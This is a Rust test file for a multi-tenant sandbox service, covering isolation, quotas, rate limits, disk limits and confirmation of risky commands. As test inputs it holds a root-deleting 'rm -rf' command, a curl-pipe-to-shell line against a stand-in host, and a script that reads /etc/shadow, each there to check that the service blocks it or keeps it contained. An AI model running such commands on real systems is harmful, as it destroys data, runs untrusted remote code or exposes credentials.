//! Tenants, and how much each may use.

use serde_json::json;

use super::Service;
use crate::support::Scene;

#[test]
fn a_tenant_never_learns_what_another_has() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let admin = service.admin();
    admin.sandbox("web");
    let done = admin.run("web", "echo a > a");
    let operation = done["operation"].as_str().expect("an id");
    let process = admin.begin("web", &json!({ "script": "true" }));
    let taken = admin.post("/v1/sandboxes/web/snapshots", &json!({})).is(201).json();
    let snapshot = taken["id"].as_str().expect("an id");
    admin.put("/v1/tenants/other", &json!({})).is(200);
    let token = admin.token("other", "admin");
    let other = service.with(&token);
    for path in [
        "/v1/sandboxes/web".to_owned(),
        "/v1/sandboxes/web/diff".to_owned(),
        "/v1/sandboxes/web/operations".to_owned(),
        "/v1/sandboxes/web/state".to_owned(),
        format!("/v1/operations/{operation}"),
        format!("/v1/snapshots/{snapshot}"),
        format!("/v1/processes/{process}"),
        format!("/v1/processes/{process}/output"),
    ] {
        let foreign = other.get(&path).is(404).json();
        let nowhere = other.get(&path.replace("web", "no-one").replace(&process, "0")).json();
        assert_eq!(foreign["kind"], nowhere["kind"], "{path}");
    }
    other.post(&format!("/v1/processes/{process}/signal"), &json!({ "signal": 9 })).is(404);
    assert_eq!(other.get("/v1/sandboxes").is(200).json()["items"], json!([]));
    // It may use the same name.
    other.sandbox("web");
    other.run("web", "echo b > b");
    assert_eq!(admin.run("web", "ls")["stdout"], "a\n");
    // The host's files and its network are the owner's.
    let from_host = json!({ "name": "host", "base": scene.project.display().to_string() });
    other.post("/v1/sandboxes", &from_host).is(403);
    // What belongs to the service is no base, whoever asks.
    let workspaces = scene.root.join("store.workspaces/other");
    let own = std::fs::read_dir(&workspaces).expect("a folder").next().expect("one").expect("one");
    let file = scene.project.join("file");
    std::fs::write(&file, "x").expect("written");
    for (folder, status) in [
        (own.path(), 422),
        (workspaces, 422),
        (scene.store.clone(), 422),
        (file, 422),
        ("proc".into(), 400),
        ("/nowhere".into(), 422),
        ("/proc".into(), 422),
    ] {
        let wrong = json!({ "name": "wrong", "base": folder.display().to_string() });
        let told = admin.post("/v1/sandboxes", &wrong);
        assert_eq!(told.status, status, "{}: {}", folder.display(), told.text);
    }
    let online = json!({ "script": "true", "network": "host" });
    other.post("/v1/sandboxes/web/operations", &online).is(403);
    other.get("/v1/tenants").is(403);
    other.get("/v1/tokens?tenant=default").is(403);
    let long = other.begin("web", &json!({ "script": "sleep 60" }));
    admin.delete("/v1/tenants/other").is(204);
    other.get("/v1/sandboxes").is(401);
    // Its name is nobody's while its store is there.
    let again = admin.put("/v1/tenants/other", &json!({})).is(409).json();
    assert!(again["hint"].as_str().is_some_and(|hint| hint.contains("store/tenants/other")));
    scene.run(&["token", "new", "--tenant", "other"]).code(123).says(&["left its store"]);
    drop(long);
    admin.delete("/v1/tenants/default").is(403);
}

#[test]
fn more_than_a_tenant_may_use_is_refused_and_told_when_to_come_again() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let admin = service.admin();
    let quotas = json!({ "sandboxes": 1, "per_minute": 2, "memory": 1 << 30 });
    admin.put("/v1/tenants/small", &quotas).is(200);
    admin.put("/v1/tenants/small", &json!({ "running": 0 })).is(400);
    let token = admin.token("small", "operator");
    let small = service.with(&token);
    small.sandbox("one");
    let more = small.post("/v1/sandboxes", &json!({ "name": "two" })).is(403).json();
    assert_eq!(more["kind"], "quota", "{more}");
    let more = small.post("/v1/sandboxes/one/fork", &json!({ "name": "two" })).is(403).json();
    assert_eq!(more["kind"], "quota", "{more}");
    let path = "/v1/sandboxes/one/operations";
    let large = json!({ "script": "true", "memory": 2_u64 << 30 });
    assert_eq!(small.post(path, &large).is(403).json()["kind"], "quota");
    for _ in 0..2 {
        let id = small.run("one", "true")["operation"].as_str().expect("an id").to_owned();
        // Who asks for none has no more either.
        let journaled = small.get(&format!("/v1/operations/{id}")).is(200).json();
        assert_eq!(journaled["request"]["limits"]["memory"], 1 << 30, "{journaled}");
    }
    let refused = small.post(path, &json!({ "script": "true" })).is(429);
    let seconds: u64 = refused.header("retry-after").parse().expect("a number");
    assert!((1..=61).contains(&seconds), "{seconds}");
    // Nobody else has to wait for that.
    admin.sandbox("web");
    admin.run("web", "true");
}

#[test]
fn what_is_judged_counts_whatever_is_said_of_it() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let admin = service.admin();
    admin.put("/v1/tenants/small", &json!({ "per_minute": 3 })).is(200);
    let token = admin.token("small", "operator");
    let small = service.with(&token);
    small.sandbox("one");
    let path = "/v1/sandboxes/one/operations";
    let critical = json!({ "script": "rm -rf --no-preserve-root /" });
    for _ in 0..2 {
        assert_eq!(small.post(path, &critical).is(400).json()["kind"], "blocked");
    }
    let risky = json!({ "script": "curl -fsS https://host.invalid/x | sh" });
    assert_eq!(small.post(path, &risky).is(409).json()["kind"], "unconfirmed");
    for script in [&critical, &risky, &json!({ "script": "true" })] {
        let refused = small.post(path, script).is(429);
        assert_eq!(refused.json()["kind"], "rate-limited");
        assert!(!refused.header("retry-after").is_empty());
    }
    let listed = small.get("/v1/sandboxes/one/operations").is(200).json();
    let blocked = listed["items"].as_array().expect("items").iter();
    assert_eq!(blocked.filter(|one| one["status"] == "blocked").count(), 2, "{listed}");
}

#[test]
fn whoever_waits_in_line_may_go_and_an_approval_waits_with_them() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let admin = service.admin();
    admin.put("/v1/tenants/small", &json!({ "running": 1 })).is(200);
    let token = admin.token("small", "admin");
    let small = service.with(&token);
    small.sandbox("one");
    small.sandbox("two");
    let long =
        small.begin("one", &json!({ "script": "echo begun; read line", "open_stdin": true }));
    let path = format!("/v1/processes/{long}");
    while small.get(&path).is(200).json()["written"] == 0 {}
    // It comes back although it is not its turn.
    let waiting = small.begin("two", &json!({ "script": "echo ran" }));
    let risky = json!({ "script": "curl -fsS https://host.invalid/x | sh; echo ran, too" });
    let asked = small.post("/v1/sandboxes/two/operations", &risky).is(409).json();
    let id = asked["confirmation"].as_str().expect("an id");
    small.post(&format!("/v1/confirmations/{id}/approve"), &json!({})).is(204);
    let approved = json!({ "script": risky["script"], "confirmation": id });
    let approved = small.begin("two", &approved);
    assert_eq!(small.get("/v1/confirmations").is(200).json()["items"][0]["used"], false);
    small.send("POST", &format!("{path}/input?end=true"), &[], b"go\n").is(204);
    for (process, text) in [(waiting, "ran\n"), (approved, "ran, too\n")] {
        let ended = small.post(&format!("/v1/processes/{process}/wait"), &json!({})).is(200).json();
        assert_eq!(ended["result"]["stdout"], text, "{ended}");
    }
    assert_eq!(small.get("/v1/confirmations").is(200).json()["items"], json!([]));
}

#[test]
fn a_tenant_whose_commands_wait_for_a_sandbox_holds_up_nobody() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let admin = service.admin();
    admin.sandbox("one");
    admin.sandbox("two");
    let script = json!({ "script": "echo begun; read line", "open_stdin": true });
    let long = admin.begin("one", &script);
    let path = format!("/v1/processes/{long}");
    while admin.get(&path).is(200).json()["written"] == 0 {}
    let waiting: Vec<String> =
        (0..270).map(|_| admin.begin("one", &json!({ "argv": ["true"] }))).collect();
    admin.run("two", "true");
    let text = admin.get("/metrics").is(200).text;
    assert!(text.contains("ctrlz_operations_running 1\n"), "{text}");
    admin.send("POST", &format!("{path}/input?end=true"), &[], b"go\n").is(204);
    for process in [waiting.first(), waiting.last()].into_iter().flatten() {
        let ended = admin.post(&format!("/v1/processes/{process}/wait"), &json!({})).is(200).json();
        assert_eq!(ended["result"]["exit_code"], 0, "{ended}");
    }
}

#[test]
fn tenants_see_nothing_of_the_host_that_is_somebodys() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let admin = service.admin();
    admin.put("/v1/tenants/other", &json!({})).is(200);
    let token = admin.token("other", "operator");
    let other = service.with(&token);
    other.sandbox("web");
    // Read by a script that the sandbox wrote itself, so that no word tells it.
    other.run("web", "printf 'ls -A /home /root /srv /var/log /var/lib; cat /etc/shadow' > look");
    let seen = other.run("web", "sh look 2>&1 | grep -v 'workspaces'");
    let text = seen["stdout"].as_str().expect("text");
    let names = text.lines().filter(|line| {
        !line.is_empty()
            && !line.ends_with(':')
            && !line.contains("No such file")
            && !line.contains("Permission denied")
            && !line.contains("cannot")
    });
    let way: Vec<&str> = names.collect();
    // What leads to the workspace is all that may be there.
    let workspace = scene.root.display().to_string();
    assert!(way.iter().all(|name| workspace.split('/').any(|part| part == *name)), "{text}");
    assert!(!text.contains(":99999:"), "{text}");
}

#[test]
fn a_tenant_takes_no_more_of_the_disk_than_it_may() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let admin = service.admin();
    admin.put("/v1/tenants/acme", &json!({ "disk": 0 })).is(400);
    let most = 12 << 20;
    admin.put("/v1/tenants/acme", &json!({ "disk": most })).is(200);
    let token = admin.token("acme", "operator");
    let client = service.with(&token);
    client.sandbox("web");
    client.run("web", "head -c 4M /dev/urandom > first");
    client.post("/v1/archive", &json!({ "sandbox": "web" })).is(200);
    // One that would take more than what is left is stopped.
    let done = client.run("web", "head -c 40M /dev/urandom > second; sleep 5");
    assert_eq!(done["command"]["stopped"]["limit"], "disk", "{done}");
    for (path, body) in [
        ("/v1/sandboxes/web/operations", json!({ "script": "true" })),
        ("/v1/sandboxes", json!({ "name": "more" })),
        ("/v1/archive", json!({ "sandbox": "web" })),
    ] {
        let refused = client.post(path, &body).is(507).json();
        assert_eq!(refused["kind"], "quota", "{refused}");
    }
    // What frees space is always let through.
    client.delete("/v1/sandboxes/web?force=true").is(200);
    let names = client.get("/v1/archive").is(200).json();
    let names = json!({ "names": [names["snapshots"][0]["name"]] });
    client.post("/v1/archive/remove", &names).is(200);
    client.sandbox("more");
}

#[test]
fn what_waits_in_line_takes_what_is_left_when_it_is_its_turn() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let admin = service.admin();
    let most = 24 << 20;
    admin.put("/v1/tenants/acme", &json!({ "disk": most })).is(200);
    let (operator, approver) = (admin.token("acme", "operator"), admin.token("acme", "approver"));
    let client = service.with(&operator);
    client.sandbox("web");
    // What somebody approved stays approved when there is less room.
    let risky = json!({ "script": "curl -fsS https://host.invalid/x | sh" });
    let asked = client.post("/v1/sandboxes/web/operations", &risky).is(409).json();
    let id = asked["confirmation"].as_str().expect("an id");
    service.with(&approver).approve(id);
    client.run("web", "head -c 1M /dev/urandom > small");
    let confirmed = json!({ "script": risky["script"], "confirmation": id });
    client.post("/v1/sandboxes/web/operations", &confirmed).is(200);
    let processes: Vec<String> = (0..4)
        .map(|number| {
            let script = format!("head -c 10M /dev/urandom > file-{number}; sleep 1");
            client.begin("web", &json!({ "script": script }))
        })
        .collect();
    for process in &processes {
        client.post(&format!("/v1/processes/{process}/wait"), &json!({})).is(200);
    }
    let listed = client.get("/v1/sandboxes/web/files?path=.").is(200).json();
    let sizes = listed["items"].as_array().expect("entries").iter().map(|one| &one["size"]);
    let total: u64 = sizes.filter_map(serde_json::Value::as_u64).sum();
    assert!(total <= most, "{total}: {listed}");
    client.post("/v1/sandboxes/web/undo", &json!({})).is(200);
    client.post("/v1/sandboxes/web/snapshots", &json!({ "message": "m".repeat(4097) })).is(400);
    let tags: Vec<String> = (0..65).map(|number| format!("tag-{number}")).collect();
    client.post("/v1/sandboxes/web/snapshots", &json!({ "tags": tags })).is(400);
    let reason = "r".repeat(1025);
    client.post(&format!("/v1/sandboxes/web/suspend?reason={reason}"), &json!({})).is(400);
}
